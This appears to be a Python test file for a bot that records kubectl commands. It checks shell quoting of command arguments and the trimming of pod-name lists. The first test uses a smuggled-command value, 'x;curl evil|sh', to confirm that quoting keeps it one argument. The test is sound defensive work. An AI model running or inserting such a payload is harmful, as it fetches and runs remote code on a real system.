"""A document carries commands as arguments, and quotes them only when they are printed."""

import shlex

from bot.facts.cause import Scope
from bot.facts.document import CommandLine, Where


def test_command_line_is_quoted_for_a_shell() -> None:
    """A hostile name stays one argument."""
    command = CommandLine("why", ("kubectl", "get", "pod", "x;curl evil|sh"))
    assert command.line == "kubectl get pod 'x;curl evil|sh'"
    assert tuple(shlex.split(command.line)) == command.argv


def test_place_that_names_fewer_counts_all() -> None:
    """Twice cut is cut once."""
    names = tuple("abcde")
    where = Where("eu", Scope.CLUSTER, "", "", names, names[:1], names, "", "app", "main", "x", names)
    few = where.naming(3).naming(2)
    assert (few.pods, few.pod_count, few.more_nodes) == (("a", "b"), 5, 3)
    assert (few.workloads, few.workload_count, few.node_count) == (("a",), 1, 5)
    assert where.naming(5) == where
